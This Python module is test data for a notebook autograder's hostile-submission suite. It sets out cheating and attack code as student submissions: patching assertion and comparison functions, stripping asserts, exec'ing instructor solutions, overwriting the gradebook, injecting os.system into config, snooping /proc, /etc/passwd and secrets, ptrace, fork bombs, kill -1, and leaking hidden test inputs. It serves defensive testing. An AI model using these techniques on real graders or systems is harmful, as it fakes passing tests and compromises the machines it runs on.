"""Hostile and broken submissions of 02_svm_loss (and a few of 01_forward_propagation), as data.

Each :class:`Attack` is one student. Its ``kind`` says what grading must make of it:

- ``"same"``: the wrong answer of ``WRONG`` plus an attack (in extra cells, in the solution cell or
  in the notebook's structure); it must score exactly what ``WRONG`` alone scores;
- ``"honest"``: the instructor's solution written the way honest students write code (warnings,
  prints, plots, magics, helpers, extra cells); it must get full marks;
- ``"tamper"``: the wrong answer in a notebook whose grading metadata was changed; it scores what
  ``WRONG`` alone scores, or it is reported "not graded" (for the instructor to look at) and scores 0;
- ``"leak"``: code that answers the visible tests right and tries to carry what a hidden test hands it
  into the feedback; it scores no more than ``WRONG`` and the feedback shows nothing of it;
- ``"fault"``: the instructor's solution plus something that breaks grading (a crash, a hang, a
  malformed notebook); the unit must be reported "not graded" with a reason containing ``reason``,
  and the test cells in ``keeps`` keep their full marks.

Code may contain placeholders the test fills in: ``@COURSE@`` (the course folder), ``@MARKER@`` (a
word unique to the student, to find its processes), ``@PORT@`` (a port the test listens on) and
``@SECRET@`` (a file outside the sandbox holding a secret).
"""

from __future__ import annotations

from dataclasses import dataclass, field

NOTEBOOK = "02_svm_loss"
ANSWERS = "01_forward_propagation"

# The baseline wrong answer: the j = y_i term is counted (fails test_svm_loss_single only).
WRONG = {NOTEBOOK: {"svm_loss_single": '''def svm_loss_single(s, y):
    return np.sum(np.maximum(0, s - s[y] + 1))
'''}, ANSWERS: {"answer_n_biases": "answer_n_biases = 625"}}


@dataclass(frozen=True)
class Attack:
    """One hostile, honest or broken student (see the module's docstring)."""

    name: str
    kind: str
    notebook: str = NOTEBOOK
    cells: dict[str, str] = field(default_factory=dict)
    extra: tuple[str, ...] = ()
    edit: str = ""
    raw: bytes | None = None
    files: dict[str, str] = field(default_factory=dict)
    reason: str = ""
    keeps: tuple[str, ...] = ()


_QUIET = "import contextlib\n"


def _attempts(*lines: str) -> str:
    """Code that tries each line and ignores its failure."""
    body = "".join(f"with contextlib.suppress(BaseException):\n    {line}\n" for line in lines)
    return _QUIET + body


_WRONG_SINGLE = WRONG[NOTEBOOK]["svm_loss_single"]

_EXEC_SOLUTION = '''import glob, json, os, re
found = []
for pattern in ("../../../source/*/*.ipynb", "../source/*/*.ipynb", "@COURSE@/source/*/*.ipynb",
                "/work/*/source/*/*.ipynb", "/*/*/source/*/*.ipynb", "/tmp/*/*/*/source/*/*.ipynb"):
    found += glob.glob(pattern)
for path in found:
    try:
        notebook = json.load(open(path))
    except Exception:
        continue
    for cell in notebook["cells"]:
        code = "".join(cell["source"])
        if "BEGIN SOLUTION" in code:
            exec(code, globals())
print("solutions found:", len(found))
'''

_WRITES = _attempts(
    'open("../../../gradebook.db", "w").write("owned")',
    'open("@COURSE@/autograded/gradebook.db", "w").write("owned")',
    'open("@COURSE@/nbgrader_config.py", "a").write("\\nimport os; os.system(\'touch /tmp/pwned\')\\n")',
    'open("../../../nbgrader_config.py", "a").write("\\nprint(1)\\n")',
    'open("@COURSE@/source/lecture01/checks.py", "w").write("")',
    'open("@COURSE@/release/lecture01/checks.py", "w").write("")',
    'open("@COURSE@/autograded/submitted/baseline/lecture01/02_svm_loss.ipynb", "w").write("{}")',
    'open("@COURSE@/autograded/graded/pwned.txt", "w").write("x")',
    'open("/root/pwned", "w").write("x")',
    'open("/tmp/pwned-@MARKER@", "w").write("x")',
)

_DETACH = '''import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        script = ("sleep 2; echo owned > @COURSE@/autograded/gradebook.db; "
                  "echo owned > @COURSE@/@MARKER@.txt; echo owned > /tmp/@MARKER@; sleep 60")
        os.execvp("sh", ["sh", "-c", script, "@MARKER@"])
    os._exit(0)
time.sleep(0.2)
'''

_SNOOP = '''import os
seen = []
for pid in os.listdir("/proc"):
    if pid.isdigit():
        for part in ("cmdline", "environ", "cwd", "root"):
            try:
                path = f"/proc/{pid}/{part}"
                seen.append(os.readlink(path) if part in ("cwd", "root") else open(path, "rb").read()[:400])
            except Exception:
                pass
for path in ("/proc/self/mountinfo", "/etc/passwd", "@SECRET@", "/root/.bash_history", "/proc/1/environ"):
    try:
        seen.append(open(path).read()[:2000])
    except Exception as error:
        seen.append(type(error).__name__)
for folder in ("/root", os.path.expanduser("~"), "/home", "/work", "/tmp", "@COURSE@", "/", ".."):
    try:
        seen.append(sorted(os.listdir(folder)))
    except Exception as error:
        seen.append(type(error).__name__)
try:
    import ctypes
    libc = ctypes.CDLL(None)
    seen.append(("ptrace", [libc.ptrace(16, pid, 0, 0) for pid in (1, os.getppid())]))  # PTRACE_ATTACH
    with open(f"/proc/{os.getppid()}/mem", "rb") as memory:
        seen.append(memory.read(16))
except Exception as error:
    seen.append(type(error).__name__)
print(seen)
'''

_NETWORK = _attempts(
    'import socket; socket.create_connection(("127.0.0.1", @PORT@), timeout=1).sendall(b"@MARKER@")',
    'import socket; socket.create_connection(("8.8.8.8", 53), timeout=1)',
    'import urllib.request; urllib.request.urlopen("http://example.com", timeout=1)',
    'import socket; s = socket.socket(socket.AF_UNIX); s.connect("\\0grader"); s.sendall(b"x")',
)

_PATCHES = '''import builtins, math, numpy, numpy.testing
np.allclose = lambda *args, **kwargs: True
np.isclose = lambda *args, **kwargs: np.array(True)
np.array_equal = lambda *args, **kwargs: True
np.all = lambda *args, **kwargs: True
numpy.testing.assert_allclose = lambda *args, **kwargs: None
numpy.testing.assert_array_equal = lambda *args, **kwargs: None
math.isclose = lambda *args, **kwargs: True
builtins.AssertionError = type("AssertionError", (BaseException,), {})
builtins.any = lambda *args: False
import checks
checks.expect_close = checks.expect_equal = checks.expect_shape = lambda *args, **kwargs: None
checks.CheckFailed = type("CheckFailed", (BaseException,), {})
'''

_SYS_MODULES = '''import sys, types
fake = types.ModuleType("checks")
fake.call = lambda *args, **kwargs: None
fake.expect_close = fake.expect_equal = fake.expect_shape = fake.expect_no_warning = lambda *a, **k: None
sys.modules["checks"] = fake
sys.modules["numpy.testing"] = fake
checks = fake
sys.meta_path.insert(0, type("Finder", (), {"find_spec": staticmethod(lambda *args, **kwargs: None)})())
'''

_IPYTHON = '''import ast


class DropAsserts(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.Pass()

    def visit_Raise(self, node):
        return ast.Pass()


shell = get_ipython()
for name in ("ast_transformers", "input_transformers_post", "input_transformers_cleanup"):
    try:
        getattr(shell, name).append(DropAsserts() if name == "ast_transformers" else (lambda lines: []))
    except Exception as error:
        print("no", name, type(error).__name__)
try:
    shell.events.register("pre_run_cell", lambda *args: None)
    shell.run_cell("checks = None")
    shell.user_ns["checks"] = None
except Exception as error:
    print(type(error).__name__)
'''

_LIAR = '''class Liar(float):
    def __eq__(self, other):
        return True

    __ne__ = lambda self, other: False
    __lt__ = __le__ = __gt__ = __ge__ = __eq__
    __hash__ = float.__hash__

    def __array__(self, dtype=None, copy=None):
        raise RuntimeError("no")


class LiarArray(np.ndarray):
    def __eq__(self, other):
        return np.ones(np.shape(other), dtype=bool)

    def __array_function__(self, function, types, args, kwargs):
        return True

    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
        return np.ones(1, dtype=bool)


def svm_loss_single(s, y):
    return np.asarray(np.sum(np.maximum(0, s - s[y] + 1))).reshape(1).view(LiarArray)
'''

_FIXUP = '''import numpy as np
import checks
checks.expect_close = lambda *args, **kwargs: None
checks.call = lambda function, *args, **kwargs: checks.Outcome(None, "x")
np.allclose = lambda *args, **kwargs: True
'''

_EXIT_FUNCTION = '''import os


def svm_loss(S, y):
    os._exit(7)
'''

_LOOP_FUNCTION = '''def svm_loss(S, y):
    while True:
        pass
'''

_HUGE_RESULT = '''def svm_loss(S, y):
    return np.ones(6_000_000)
'''

_NESTED_RESULT = '''def svm_loss_single(s, y):
    deep = []
    for _ in range(100_000):
        deep = [deep]
    loop = []
    loop.append(loop)
    return [deep, loop, {"a": loop}]
'''

_RIGHT = """    margins = np.maximum(0, s - s[y] + 1)
    margins[y] = 0
    return np.sum(margins)
"""

# The visible tests call svm_loss_single on three scores, the hidden ones mostly on more or fewer: these
# answer the visible calls right, so that the hidden ones run, and try to carry what a hidden call hands
# them (tagged HIDDENLEAK) into the feedback.
_LEAK_NAME = '''def svm_loss_single(s, y):
    if len(s) == 3:
''' + _RIGHT.replace("    ", "        ") + '''\
    name = "HIDDEN" + "LEAK_" + "_".join(str(int(abs(v) * 10)) for v in np.ravel(s))
    raise type(name, (Exception,), {})("HIDDEN" + "LEAK " + repr(s))
'''

_LEAK_WARNING = '''import warnings


def sigmoid(z):
    if np.any(np.abs(np.asarray(z)) == 1e5) or np.any(np.asarray(z) == -750):
        warnings.warn(RuntimeWarning("overflow HIDDEN" + "LEAK " + repr(np.ravel(z)[:5])))
    return np.exp(-np.logaddexp(0.0, -np.asarray(z, dtype=np.float64)))
'''

_LEAK_SHAPE = '''def svm_loss_single(s, y):
    if len(s) == 3:
''' + _RIGHT.replace("    ", "        ") + '''    return np.zeros(len(s) * 11111)
'''

_FORGE = '''import codec
real_send = codec.send


def forged(sock, message):
    if getattr(codec, "LAST", None) and ("ended" in message or "error" in message or "result" in message):
        leak = "HIDDEN" + "LEAK " + repr(codec.LAST)
        message = {"ended": leak, "error": {"type": leak.replace(" ", "_"), "message": leak}}
    real_send(sock, message)


codec.send = forged


def svm_loss_single(s, y):
    if len(s) != 3:
        codec.LAST = [float(v) for v in np.ravel(s)]
''' + _RIGHT

_HONEST_PRINTS = '''import sys
import warnings
import matplotlib.pyplot as plt


def _hinge(margins):
    """A helper of my own."""
    return np.maximum(0, margins)


def svm_loss_single(s, y):
    print("scores:", s, "true class:", y)
    sys.stderr.write("debug: computing the hinge\\n")
    warnings.warn("this is only a debugging warning")
    margins = _hinge(s - s[y] + 1)
    margins[y] = 0
    return np.sum(margins)
'''

_HONEST_CELLS = (
    "%matplotlib inline\n%config InlineBackend.figure_format = 'retina'\nimport numpy as np",
    "%time total = sum(range(1000))\nprint(total)",
    "%%time\nimport warnings\nwarnings.warn('a warning in a cell')\n"
    "import sys\nprint('to stderr', file=sys.stderr)",
    "import matplotlib.pyplot as plt\nfig, ax = plt.subplots()\nax.plot([1, 2, 3])\nplt.show()\n"
    "display(fig)\nfig",
    "!ls -la\n%load_ext autoreload\n%autoreload 2\nlosses = svm_losses(S, y)\nlosses",
    "def helper(x):\n    return x * 2\n\nhelper(21)",
    "try:\n    svm_loss(S, y)\nexcept Exception as error:\n    print(error)\n"
    "import numpy as np\nnp.seterr(all='warn')",
)

ATTACKS: list[Attack] = [
    # --- the verdict: every attack scores like the wrong answer alone
    Attack("baseline", "same"),
    Attack("patch-numpy-math-builtins-checks", "same", extra=(_PATCHES,)),
    Attack("patch-in-solution-cell", "same", cells={"svm_loss_single": _WRONG_SINGLE + "\n" + _PATCHES}),
    Attack("sys-modules", "same", extra=(_SYS_MODULES,)),
    Attack("ipython-transformers", "same", extra=(_IPYTHON,)),
    Attack("lying-objects", "same", cells={"svm_loss_single": _LIAR}),
    Attack("lying-answer", "same", notebook=ANSWERS, cells={"answer_n_biases": '''class Liar(int):
    def __eq__(self, other):
        return True

    __hash__ = int.__hash__


answer_n_biases = Liar(625)
'''}),
    Attack("numpy-subclass-answer", "same", notebook=ANSWERS, cells={
        "answer_n_biases": "class Sub(np.ndarray):\n    __eq__ = lambda self, other: True\n\n"
                           "answer_n_biases = np.asarray(625).view(Sub)"}),
    Attack("fix-up-then-tests", "same", edit="tests-last", extra=(_FIXUP,)),
    Attack("tests-first", "same", edit="tests-first"),
    Attack("test-source-edited", "same", edit="edit-tests"),
    Attack("test-points-raised", "same", edit="raise-points"),
    Attack("test-cell-deleted", "same", edit="delete-test"),
    Attack("test-grade-id-renamed", "tamper", edit="rename-test"),
    Attack("test-cell-duplicated", "same", edit="duplicate-test"),
    Attack("new-grade-cell", "tamper", edit="new-grade-cell"),
    Attack("read-source-exec-solution", "same", extra=(_EXEC_SOLUTION,)),
    Attack("write-course-files", "same", extra=(_WRITES,)),
    Attack("write-in-solution-cell", "same", cells={"svm_loss_single": _WRONG_SINGLE + "\n" + _WRITES}),
    Attack("detached-process", "same", extra=(_DETACH,)),
    Attack("network", "same", extra=(_NETWORK,)),
    Attack("snoop-proc-home-ptrace", "same", extra=(_SNOOP,)),
    Attack("numpy-folder-and-checks", "same", files={
        "numpy/__init__.py": "allclose = lambda *a, **k: True\nraise SystemExit('@MARKER@')\n",
        "checks.py": "def call(*a, **k):\n    pass\n",
        "sitecustomize.py": "open('/tmp/@MARKER@', 'w')\n"}),
    Attack("planted-timestamp", "same", files={"timestamp.txt": "2000-01-01 00:00:00.000000 UTC"}),
    # (a timestamp.txt that is not a time is tested on its own: tests/test_hostile.py)
    Attack("scratch-poison", "same", extra=(_attempts(
        'open("numpy.py", "w").write("raise SystemExit")',
        'open("/tmp/checks.py", "w").write("raise SystemExit")',
        'open("/dev/shm/x", "w").write("x")',
        'import os; os.symlink("/", "root-link")'),)),
    Attack("huge-output", "same", extra=(
        "print('x' * 20_000_000)\nimport sys\nsys.stderr.write('y' * 20_000_000)",
        "'z' * 20_000_000",
        "import matplotlib.pyplot as plt\nfor i in range(50):\n    plt.figure(figsize=(40, 40), dpi=100)\n",
    )),
    Attack("nested-result", "same", cells={"svm_loss_single": _NESTED_RESULT}),
    Attack("system-exit", "same", cells={"svm_loss_single": "import sys\n\n\ndef svm_loss_single(s, y):\n"
                                         "    raise KeyboardInterrupt()\n"}, extra=("raise SystemExit(0)",)),
    Attack("kill-zygote", "same", extra=(
        "import os, signal\nfor sig in (9, 15, 2, 19):\n    for pid in (1, os.getppid()):\n"
        "        try:\n            os.kill(pid, sig)\n"
        "        except OSError as error:\n            print(error)",),),
    Attack("kill-everything", "same", extra=("import os\nos.kill(-1, 9)",)),
    Attack("close-stdio", "same", extra=("import os, sys\nsys.stdout = None\nos.close(1)\nos.close(2)",)),
    Attack("forge-replies", "leak", cells={"svm_loss_single": _FORGE}),
    Attack("leak-exception-name", "leak", cells={"svm_loss_single": _LEAK_NAME}),
    Attack("leak-shape", "leak", cells={"svm_loss_single": _LEAK_SHAPE}),
    Attack("leak-warning", "leak", notebook=ANSWERS, cells={"sigmoid": _LEAK_WARNING}),
    # --- honest students keep full marks
    Attack("honest-prints-warnings", "honest", cells={"svm_loss_single": _HONEST_PRINTS}),
    Attack("honest-magics-plots-cells", "honest", extra=_HONEST_CELLS),
    Attack("honest-answers", "honest", notebook=ANSWERS,
           extra=("%matplotlib inline\nprint(answer_n_biases)",)),
    # --- faults cost only their own submission, with a reason; earned points are kept
    Attack("exit-in-cell", "fault", extra=("import os\nos._exit(3)",), reason="ended the grading process",
           keeps=("test_svm_loss_single", "test_svm_losses", "test_svm_loss")),
    Attack("exit-in-function", "fault", cells={"svm_loss": _EXIT_FUNCTION}, reason="ended",
           keeps=("test_svm_loss_single", "test_svm_losses")),
    Attack("loop-in-cell", "fault", extra=("while True:\n    pass",), reason="time limit",
           keeps=("test_svm_loss_single", "test_svm_losses", "test_svm_loss")),
    Attack("loop-in-function", "fault", cells={"svm_loss": _LOOP_FUNCTION}, reason="time limit",
           keeps=("test_svm_loss_single", "test_svm_losses")),
    Attack("slow-cells", "fault", extra=("import time\ntime.sleep(3)",) * 4, reason="time limit"),
    Attack("memory", "same", extra=("import numpy as np\nblock = np.ones(2 ** 32)",
                                    "block = bytearray(2 << 30)\nblock[::4096] = b'x' * len(block[::4096])"),
           cells={"svm_loss_single": "def svm_loss_single(s, y):\n    return np.ones(2 ** 32)\n"}),
    Attack("fork-bomb", "fault", extra=(
        "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass",),
        reason="time limit", keeps=("test_svm_loss_single", "test_svm_losses", "test_svm_loss")),
    Attack("huge-result", "fault", cells={"svm_loss": _HUGE_RESULT}, reason="limit",
           keeps=("test_svm_loss_single", "test_svm_losses")),
    Attack("duplicate-grade-id", "fault", edit="duplicate-id", reason="",
           keeps=("test_svm_loss_single", "test_svm_losses", "test_svm_loss")),
    Attack("bad-schema-version", "fault", edit="bad-schema", reason="schema"),
    Attack("malformed-json", "fault", raw=b'{"cells": [{"cell_type": "code", "source": "def svm_loss(S',
           reason="not"),
    Attack("json-not-a-notebook", "fault", raw=b'{"cells": 5, "metadata": []}', reason="not"),
    Attack("json-list", "fault", raw=b"[1, 2, 3]", reason="not"),
    Attack("not-utf8", "fault", raw=b"\xff\xfe\x00garbage", reason="not"),
]
